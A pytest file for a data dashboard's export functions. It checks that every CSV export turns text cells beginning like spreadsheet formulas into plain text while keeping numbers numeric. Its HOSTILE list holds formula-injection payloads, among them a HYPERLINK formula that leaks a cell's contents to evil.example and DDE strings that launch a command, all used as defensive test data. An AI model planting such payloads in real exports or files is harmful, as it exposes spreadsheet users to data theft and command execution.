"""Exports are safe to open: text a spreadsheet would run as a formula (=, +, -, @, tab, CR at the
start, OWASP's rule) leaves every CSV export as plain text; xlsx keeps text as text."""
import io

import duckdb
import pandas as pd
import pytest

from warehouse.store import current_version_file

from factory import FACILITY_HEADER, FACILITY_ROWS, load, monthly_file, registry_files, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
           "\t=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STORED = [h.strip() for h in HOSTILE]          # names are stored without surrounding blanks


def test_a_text_cell_that_starts_like_a_formula_is_neutralized_and_numbers_are_not():
    from dashboard.workbook import csv_bytes
    frame = pd.DataFrame({"=名称": HOSTILE + ["一社区"], "change": [-0.5, 1, 2, -3, 4, None]})
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'=名称", "change"]
    assert list(back["'=名称"]) == ["'" + h for h in HOSTILE] + ["一社区"]
    assert list(back["change"]) == ["-0.5", "1.0", "2.0", "-3.0", "4.0", ""]     # numbers stay numbers


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The tiny city with facilities, an inspector and findings named like formulas."""
    tmp = tmp_path_factory.mktemp("hostile")
    db = tmp / "wh.duckdb"
    load(db, *registry_files(tmp / "registry"))
    rows = [[f"F_BAD{n}", name, "社区卫生服务站", "F_CHC1", "110101001", "社会办", 116.41, 39.90 + n / 1000, 100,
             "旧城改造区", "2012-05-01", ""] for n, name in enumerate(HOSTILE)]
    results = load(db, write_csv(tmp / "bad_names.csv", FACILITY_HEADER, FACILITY_ROWS[:1] + rows))
    months = [{"facility_code": f"F_BAD{n}", "period": "2026-03", "submitted_on": "2026-05-30", "births": 3}
              for n in range(len(HOSTILE))]
    results += load(db, monthly_file(tmp / "m.csv", months),
                    write_csv(tmp / "v.csv", ["机构代码", "检查日期", "检查人", "得分", "发现问题", "整改期限"],
                              [[f"F_BAD{n}", "2026-04-01", HOSTILE[n], 60, HOSTILE[n], "2026-05-01"]
                               for n in range(len(HOSTILE))]))
    assert [r.status for r in results] == ["accepted"] * 3, [p.line() for r in results for p in r.problems]
    return db


def test_every_csv_export_holds_hostile_names_as_text(hostile_db):
    from dashboard import data, tables
    from dashboard.callbacks.exports import TABLES
    data.configure(hostile_db)
    con = duckdb.connect(str(current_version_file(hostile_db)), read_only=True)
    try:
        seen = set()
        for table, spec in TABLES.items():
            filters = data.read_filters(con, "all", "2026Q2", "zh", {"facility": "F_BAD0"})
            columns, frame = spec.build(con, filters)
            back = pd.read_csv(io.BytesIO(tables.to_file(columns, frame, "csv")), encoding="utf-8-sig", dtype=str,
                               keep_default_na=False)
            for column in back.columns:
                for cell in back[column]:
                    if cell.startswith(FORMULA_STARTS):
                        float(cell)                      # a negative number is a number, not a formula
                    seen.update(h for h in STORED if cell == "'" + h)
        assert seen == set(STORED), set(STORED) - seen     # each hostile name went through some export
    finally:
        con.close()
        data.configure(None)
